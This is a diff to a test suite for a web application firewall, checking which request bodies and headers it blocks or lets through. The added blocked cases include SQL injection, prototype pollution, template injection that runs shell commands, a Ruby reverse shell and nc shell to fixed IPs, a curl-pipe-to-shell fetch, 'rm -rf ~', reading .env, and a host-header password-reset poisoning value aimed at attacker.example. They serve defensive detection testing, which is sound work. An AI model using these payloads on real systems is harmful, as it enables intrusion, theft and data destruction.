@@ -1630,6 +1630,14 @@ describe('waf API profile: session 10', () => {
       {
         text: 'My grandma’s recipe says “a pinch of salt; drop in the eggs one at a time” — we used it for the fractions homework (¾ cup flour × 2 = 1½ cups).',
       },
+      // ICU messages of a localisation tool (held-out 29).
+      { source: 'Budget "{budgetName}" is at {pct, number, percent} of its monthly limit' },
+      { target: '{count, plural, one {# photo selected} other {# photos selected}}' },
+      // A URL in a sentence is one word to a shell (`=mail` is no command; held-out 28).
+      {
+        note: 'P.S. the link in last week’s email (https://portal.example.com/r/8Kq2?utm_source=mail) was broken.',
+      },
+      { path: ['rows', 'constructor', 'builder'] },
     ];
     for (const doc of ok) assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
     const persisted = (variables: unknown): Init =>
@@ -1657,6 +1665,21 @@ describe('waf API profile: session 10', () => {
       { note: 'if true\nthen whoami\nfi' },
       { note: 'for x in a b\ndo id\ndone' },
       { text: 'a pinch of salt\ny= whoami (x = 2)' },
+      { target: '{count, plural, one {x" or 1=1 -- } other {# photos selected}}' },
+      { note: 'Budget "{budgetName}" is at {pct, number, percent} of its limit; drop table users' },
+      { note: 'The link in the email https://x.example/?a=1&id' },
+      { path: ['a', 'constructor', 'prototype', 'isAdmin'], value: true },
+      { path: ['__proto__', 'isAdmin'], value: true },
+      { caption: ';ruby -rsocket -e\'exit if fork;c=TCPSocket.new("203.0.113.5","4444")\'' },
+      { tags: ';$0 -c id' },
+      { host: 'a" | nc 127.0.0.1 4444 -e sh | "b' },
+      { t: 'pwsh -c whoami' },
+      { title: 'powershell calc' },
+      { h: '127.0.0.1\n! if true\nthen rm -rf ~\nfi' },
+      { h: '127.0.0.1;cat .env' },
+      { h: '127.0.0.1\nx= id' },
+      { note: '# Traceback (most recent call last):\ncurl -s http://203.0.113.9/x.sh | sh' },
+      { note: 'Traceback (most recent call last):\n  File "main.py", line 12\n" ; rm -rf ~ ; "' },
     ];
     for (const doc of bad) assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
     assert.ok((await run(api, persisted({ q: "x' union select password from users--" }))).error);
@@ -1690,6 +1713,29 @@ describe('waf API profile: session 10', () => {
     ])
       assert.ok((await run(api, referer(v))).error, v);
     assert.ok((await run(api, post({ note: 'x ${bundle:app:secret}' }))).error);
+    // SQLite's GLOB after a break-out (CRS passes it at every paranoia level), Go/Django/Razor templates.
+    for (const doc of [
+      { q: "x'or title glob'?*" },
+      { q: "x' or name regexp '." },
+      { greeting: '{{ .Request.Context }}{{ call .Exec "id" }}' },
+      { t: '{{ settings.SECRET_KEY }}{% debug %}' },
+      { signature: '@System.Diagnostics.Process.Start("cmd.exe","/c whoami")' },
+      { url: 'https://fw.example/2024.11.bin`reboot`' },
+    ])
+      assert.ok((await run(api, post(doc))).error, JSON.stringify(doc));
+    for (const doc of [
+      { q: "It's a glob pattern, not a regexp" },
+      { t: 'Hi {{ first_name }}, call us at {{ phone }}' },
+    ])
+      assert.equal((await run(api, post(doc))).error, undefined, JSON.stringify(doc));
+    const forwarded = (v: string): Init => ({
+      method: 'GET',
+      path: '/api/v2/shop/password-reset',
+      query: 'email=a%40example.com',
+      headers: { ...ua, 'x-forwarded-host': v },
+    });
+    assert.ok((await run(api, forwarded('localhost%2523@attacker.example'))).error);
+    assert.equal((await run(api, forwarded('shop.example.com, edge-1.example.net:8443'))).error, undefined);
     // A compose file's default (`web:` is no lookup prefix there): the template rule stays quiet on it.
     const compose = await run(api, post({ url: '${API_URL:-http://web:8080}' }));
     assert.ok(!compose.events.some((e) => (e.fields.rule_ids as number[] | undefined)?.includes(90101)));
